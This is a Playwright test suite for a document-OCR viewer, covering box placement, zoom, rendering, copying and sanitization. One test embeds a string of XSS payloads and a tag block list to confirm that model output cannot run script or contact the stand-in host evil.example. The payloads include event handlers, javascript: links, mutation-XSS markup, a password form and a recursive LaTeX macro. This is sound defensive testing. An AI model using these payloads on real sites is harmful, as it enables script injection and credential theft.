"""The page beside its text: boxes where they belong at any zoom, and a model's words that can only be read."""

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.support.shown import HEIGHT, WIDTH, Part, Shown, show

PARTS = (
    Part("title", (50, 40, 800, 90), "# Quarterly report"),
    Part(
        "text",
        (50, 110, 900, 160),
        r"The energy is \(E = mc^2\), and paper went from $5 to 6$ in **two** years.",
    ),
    Part(
        "equation", (200, 200, 800, 300), "\\[\n\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}\n\\]"
    ),
    Part(
        "table",
        (50, 330, 900, 520),
        "<table><tr><td>Paper \\(a_1 < 2\\)</td><td>504.50</td></tr>\n\n<tr><td colspan=2>Ink</td></tr></table>",
    ),
    Part("image", (100, 700, 500, 1000), "A landscape"),
    Part("text", (50, 1100, 900, 1200), "- one\n- two"),
)
TEXT = "\n\n".join(
    ("![image](#xywh=100,700,400,300)\n" if part.label == "image" else "") + part.text for part in PARTS
)


def _boxes(page: Page) -> Locator:
    return page.locator(".boxes button")


def _place(locator: Locator) -> tuple[float, float, float, float]:
    box = locator.bounding_box()
    assert box
    return box["x"], box["y"], box["width"], box["height"]


@pytest.mark.parametrize(
    "has_boxes", [True, False], ids=["boxes of the answer", "boxes of the model's words"]
)
def test_boxes_lie_where_they_belong_at_any_zoom(page: Page, *, has_boxes: bool) -> None:
    page.set_viewport_size({"width": 1280, "height": 640})  # the whole page is smaller than its width
    show(page, Shown(PARTS, has_boxes=has_boxes))
    expect(_boxes(page)).to_have_count(len(PARTS))
    picture = page.get_by_role("img", name="Picture of page 1")
    seen = set()
    for key in ("w", "0", "1"):
        page.get_by_role("region", name="The page as a picture").press(key)
        x, y, width, height = _place(picture)
        seen.add(round(width))
        assert width / height == pytest.approx(WIDTH / HEIGHT, rel=0.01)
        for part, found in zip(PARTS, _boxes(page).all(), strict=True):
            x1, y1, x2, y2 = part.box
            scale = width / WIDTH
            expected = (x + x1 * scale, y + y1 * scale, (x2 - x1) * scale, (y2 - y1) * scale)
            # The model's own words have a place in 1000 of the page.
            assert _place(found) == pytest.approx(expected, abs=1 if has_boxes else 1 + width / 500), (
                key,
                part,
            )
    assert len(seen) == 3
    assert max(seen) == WIDTH


def test_zoom_follows_wheel_and_buttons_and_keeps_what_is_under_the_pointer(page: Page) -> None:
    show(page, Shown(PARTS))
    expect(_boxes(page)).to_have_count(len(PARTS))
    table = _boxes(page).nth(3)
    stage = page.get_by_role("region", name="The page as a picture")
    stage.press("1")
    x, y, width, height = _place(stage)
    page.mouse.move(x + width / 2, y + height / 2)
    stage.evaluate("(stage) => stage.scrollTo(150, 180)")
    before = _place(table)
    point = (x + width / 2, y + height / 2)
    page.keyboard.down("Control")
    page.mouse.wheel(0, -120)
    page.keyboard.up("Control")
    expect(page.get_by_label("Scale", exact=True)).to_have_text("149 %")
    after = _place(table)
    scale = after[2] / before[2]
    assert scale == pytest.approx(1.49, abs=0.02)
    for at, start, now in zip(point, before[:2], after[:2], strict=True):
        assert now == pytest.approx(at + (start - at) * scale, abs=2)
    page.get_by_role("button", name="Zoom in").click()
    expect(page.get_by_label("Scale", exact=True)).to_have_text("150 %")
    page.get_by_role("button", name="Zoom out").click()
    page.get_by_role("button", name="Zoom out").click()
    expect(page.get_by_label("Scale", exact=True)).to_have_text("110 %")
    page.get_by_role("button", name="Page", exact=True).click()
    assert _place(page.locator(".sheet"))[3] <= height
    page.get_by_role("checkbox", name="Boxes").uncheck()
    expect(_boxes(page)).to_have_count(0)


def test_two_fingers_zoom(page: Page) -> None:
    show(page, Shown(PARTS))
    stage = page.get_by_role("region", name="The page as a picture")
    stage.press("1")
    x, y, width, height = _place(stage)
    middle = y + height / 2
    touch = page.context.new_cdp_session(page)
    for kind, apart in (("touchStart", 40), ("touchMove", 60), ("touchMove", 80)):
        points = [{"x": x + width / 2 + side * apart, "y": middle, "id": side + 1} for side in (-1, 1)]
        touch.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})
    touch.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
    expect(page.get_by_label("Scale", exact=True)).to_have_text("200 %")


def test_text_is_shown_as_what_it_means(page: Page) -> None:
    asked = []
    page.on("request", lambda request: asked.append(request.url.rsplit("/", 1)[1]))
    show(page, Shown([Part("text", (0, 0, 10, 10), "No formula, though it costs $5 or 6$.")]))
    expect(page.get_by_role("article")).to_have_text("No formula, though it costs $5 or 6$.")
    assert "markdown-it.mjs" in asked
    assert "temml.js" not in asked, "loaded without a formula"
    (second, *_) = show(page, Shown(PARTS, text=TEXT))
    page.evaluate("async (id) => { (await import('/ui/store.js')).currentId.value = id; }", second)
    article = page.get_by_role("article")
    expect(article.get_by_role("heading", name="Quarterly report")).to_be_visible()
    expect(article.locator("math")).to_have_count(3)
    expect(article.locator("math.tml-display")).to_have_count(1)
    expect(article.locator("math msup").first).to_have_text("c2")
    expect(article.get_by_role("cell", name="504.50")).to_be_visible()
    expect(article.get_by_role("row")).to_have_count(2)
    expect(article.get_by_role("cell", name="Ink")).to_have_attribute("colspan", "2")
    expect(article.get_by_role("listitem")).to_have_text(["one", "two"])
    figure = article.get_by_role("img", name="image")
    expect(figure).to_be_visible()
    # Of a picture that has half of the pixels.
    assert figure.evaluate("(canvas) => [canvas.width, canvas.height]") == [200, 150]
    assert figure.evaluate("(canvas) => [...canvas.getContext('2d').getImageData(100, 75, 1, 1).data]") == [
        *(230, 179, 179),
        255,
    ]
    page.get_by_role("tab", name="Source").click()
    expect(page.get_by_role("tabpanel")).to_contain_text(
        "<|ref|>title<|/ref|><|det|>[[50, 29, 799, 64]]<|/det|>"
    )
    page.get_by_role("tab", name="Source").press("ArrowRight")
    expect(page.get_by_role("tab", name="JSON")).to_be_focused()
    expect(page.get_by_role("tabpanel")).to_contain_text('"engine": "transformers"')


HOSTILE = """
<img src=x onerror="window.hurt = 1"> <svg onload="window.hurt = 2"><style>* { display: none }</style></svg>
<script>window.hurt = 3</script> <p style="position: fixed; inset: 0" id="viewer" onclick="window.hurt = 4">styled</p>
<a href="javascript:window.hurt = 5">a link</a> [another](javascript:alert(1)) [third](http://evil.example/track)
<iframe srcdoc="<script>parent.hurt = 6</script>"></iframe> ![pixel](http://evil.example/pixel.png)
<form action="http://evil.example/"><input name="password" autofocus></form> <base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/a.css"> <meta http-equiv="refresh" content="0; url=http://evil.example/">

<table background="http://evil.example/b.png"><tr><td onmouseover="window.hurt = 7" colspan="9999999"
 style="background: url(http://evil.example/c.png)">cell</td></tr></table>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=8&gt;">

\\(\\href{javascript:window.hurt=9}{x} \\includegraphics{http://evil.example/d.png}\\)

\\(\\def\\a{\\a\\a}\\a\\) and #include <stdio.h>

[![x](http://evil.example/e.png)](http://evil.example/f) <video src="http://evil.example/g.mp4" autoplay></video>
<object data="http://evil.example/h"></object> <embed src="http://evil.example/i"> <template><img src=x></template>
"""


FORBIDDEN = {
    *(
        "a",
        "base",
        "embed",
        "form",
        "iframe",
        "img",
        "input",
        "link",
        "meta",
        "object",
        "script",
        "style",
        "svg",
    ),
    *("template", "video"),
}


@pytest.mark.parametrize("task", ["document", "ocr"])
def test_a_models_words_can_do_nothing(page: Page, task: str) -> None:
    own = page.url
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    label = "<img src=x onerror='window.hurt = 10'>"
    show(page, Shown([Part(label, (1, 1, 90, 90), HOSTILE)], text=HOSTILE, task=task), name=f"{label}.pdf")
    article = page.get_by_role("article")
    expect(article).to_contain_text("#include <stdio.h>")
    expect(article).to_contain_text("http://evil.example/track")
    for tab in ("Source", "JSON", "Text"):
        page.get_by_role("tab", name=tab).click()
    article.locator(":scope *").evaluate_all("(all) => all.forEach((each) => each.click())")
    page.locator(".text *, .boxes *").evaluate_all(
        "(all) => all.forEach((each) => each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))"
    )
    names, attributes = page.evaluate(
        """() => {
          const all = [...document.querySelectorAll("article *")].filter((each) => !each.closest("math"));
          return [all.map((each) => each.localName), all.flatMap((each) => each.getAttributeNames())];
        }"""
    )
    assert not set(names) & FORBIDDEN
    assert set(attributes) <= {
        "class",
        "data-box",
        "data-lines",
        "align",
        "title",
        "tabindex",
        "role",
        "aria-label",
    }
    assert page.evaluate("window.hurt") is None
    assert [url for url in asked if not url.startswith((own, "blob:", "data:"))] == []
    assert page.url == own


def test_pointing_at_a_box_marks_its_text_and_the_other_way_round(page: Page) -> None:
    show(page, Shown(PARTS, text=TEXT))
    expect(_boxes(page)).to_have_count(len(PARTS))
    marked = page.locator("article .pointed")
    _boxes(page).nth(3).hover()
    expect(marked).to_have_count(1)
    expect(marked).to_contain_text("504.50")
    page.get_by_role("article").get_by_role("heading").hover()
    expect(page.locator(".box[data-active]")).to_have_attribute("title", "Title: # Quarterly report")
    # By keyboard: one stop for all boxes, then arrows.
    page.mouse.move(0, 0)
    _boxes(page).first.focus()
    for key in ("ArrowRight", "ArrowDown", "ArrowDown", "ArrowDown", "End", "Home", "ArrowRight"):
        page.keyboard.press(key)
    expect(_boxes(page).nth(1)).to_be_focused()
    expect(marked).to_contain_text("The energy is")
    assert _boxes(page).evaluate_all("(all) => all.filter((each) => each.tabIndex === 0).length") == 1
    page.keyboard.press("End")
    expect(marked).to_have_text("one two", use_inner_text=False)
    expect(marked).to_be_in_viewport()


LINES = ("first *line*", "2", "<b>third</b>")


def test_lines_have_their_boxes_too(page: Page) -> None:
    lines = [Part(text, (50, 100 * at, 900, 100 * at + 50)) for at, text in enumerate(LINES)]
    show(page, Shown(lines, text="first *line* 2\n<b>third</b>", task="ocr", engine="rapidocr"))
    expect(page.get_by_role("article")).to_have_text("first *line* 2\n<b>third</b>")
    page.get_by_text("<b>third</b>").hover()
    expect(page.locator(".box[data-active]")).to_have_attribute("title", "<b>third</b>")
    expect(page.get_by_role("button", name="Copy Markdown")).to_have_count(0)


def test_a_page_without_text_says_why(page: Page) -> None:
    trouble = {"code": "odd", "message": "the page is a riddle", "status": 422, "param": None}
    show(
        page,
        Shown(state="failed", error=trouble),
        Shown(state="waiting"),
        Shown(state="cancelled"),
        Shown(state=None),
    )
    for text in ("the page is a riddle", "is waiting to be read", "was cancelled", "hasn't been read yet"):
        expect(page.locator(".text-frame")).to_contain_text(text)
        page.get_by_role("button", name="Next page").click(force=True)
    expect(page.get_by_label("Page of the document")).to_have_value(
        page.get_by_role("option", name="Page 4 of 4").get_attribute("value") or ""
    )
    page.get_by_label("Page of the document").select_option("Page 2 of 4")
    expect(page.locator(".text-frame")).to_contain_text("is waiting to be read")


def test_the_viewer_fits_a_phone_in_every_language(page: Page) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    show(page, Shown(PARTS, text=TEXT), Shown(PARTS))
    for language in ("zh-CN", "zh-TW", "ja", "en"):
        page.locator(".language select").select_option(language)
        assert page.evaluate("document.documentElement.scrollWidth") == 360, language
        assert "viewer." not in page.locator("#viewer").inner_text(), language


def test_text_and_markdown_are_copied(page: Page) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    show(page, Shown(PARTS, text=TEXT))
    page.get_by_role("button", name="Copy Markdown").click()
    expect(page.get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == TEXT
    page.get_by_role("button", name="Copy text").click()
    expect(page.get_by_text("Copied")).to_have_count(2)
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.splitlines() == [
        "Quarterly report",
        "",
        "The energy is E = mc^2, and paper went from $5 to 6$ in two years.",
        "",
        r"\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}",
        "Paper a_1 < 2\t504.50",
        "Ink",
        "",
        "image",
        "A landscape",
        "",
        "one",
        "two",
    ]
